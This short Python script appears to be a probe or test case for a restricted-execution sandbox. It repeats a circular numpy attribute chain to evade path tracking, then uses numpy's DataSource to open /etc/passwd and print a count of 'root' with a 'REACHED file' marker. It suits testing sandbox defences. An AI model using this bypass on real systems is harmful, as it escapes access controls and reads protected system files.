# A path that goes round in circles until it is too long to be kept.
import numpy as np
module = np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core.np.ma.core
print("REACHED file", module.np.lib.npyio.DataSource(".").open("/etc/passwd").read().count("root"))
